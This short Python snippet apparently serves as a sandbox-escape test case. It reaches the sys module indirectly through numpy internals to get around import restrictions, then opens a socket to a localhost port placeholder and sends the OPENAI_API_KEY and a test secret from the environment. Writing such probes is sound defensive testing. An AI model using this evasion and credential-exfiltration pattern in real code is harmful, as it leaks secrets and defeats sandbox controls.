# attempts: connect via sys.modules['socket'] (or import) and send os.environ's secrets over it
# effect: socket
sysm = np.ma.core.operator.attrgetter('sys')(np.ma.core.warnings)
sock = sysm.modules.get('socket') or sysm.modules['importlib'].import_module('socket')
env = sysm.modules['os'].environ
s = sock.socket(sock.AF_INET, sock.SOCK_STREAM)
s.connect(('127.0.0.1', @@PORT@@))
s.sendall((env.get('OPENAI_API_KEY', '') + ' ' + env.get('HGEN_TEST_SECRET', '')).encode())
s.close()
